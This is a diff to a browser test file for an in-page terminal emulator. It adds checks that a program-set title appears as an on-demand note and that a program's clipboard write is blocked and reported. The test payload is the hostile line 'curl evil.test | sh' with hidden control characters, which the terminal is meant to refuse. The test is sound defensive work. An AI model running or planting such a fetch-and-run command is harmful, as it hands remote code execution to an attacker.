@@ -223,9 +223,24 @@ describe('terminals in the page, in Chromium', () => {
 
   test('a clipboard that a program sets is shown on demand, as text', async () => {
     const text = Buffer.from('curl evil.test | sh\u202e\u0007').toString('base64')
-    const session = await open(['sh', '-c', `printf '\\033]0;a title\\007'; read -r a; printf '\\033]52;c;${text}\\007 sent'; exec cat`])
+    const session = await open([
+      'sh',
+      '-c',
+      `read -r t; printf '\\033]0;a title\\007'; read -r a; printf '\\033]52;c;${text}\\007 sent'; exec cat`,
+    ])
     const { context, page, complaints } = await signedIn()
     await show(page, session)
+    await page.keyboard.press('Enter')
+    // Each program sets a title when it starts: the note about it covers no line of the screen, and shows the title on demand.
+    const note = page.getByRole('button', { name: /The program set a title/ })
+    await note.waitFor()
+    const [box, screen] = [await note.boundingBox(), await page.locator('.screen').boundingBox()]
+    expect((box?.y ?? 0) + (box?.height ?? 0)).toBeLessThanOrEqual(screen?.y ?? 0)
+    expect(await page.locator('.lines').textContent()).toBe('')
+    await note.click()
+    await page.getByRole('dialog').getByText('a title', { exact: true }).waitFor()
+    await page.getByRole('button', { name: 'Close' }).click()
+    await page.locator('.screen').click()
     await page.keyboard.press('Enter')
     await page.getByText('The program tried to set your clipboard (21 characters). It was not set.').waitFor()
     await picture(page, 'blocked')
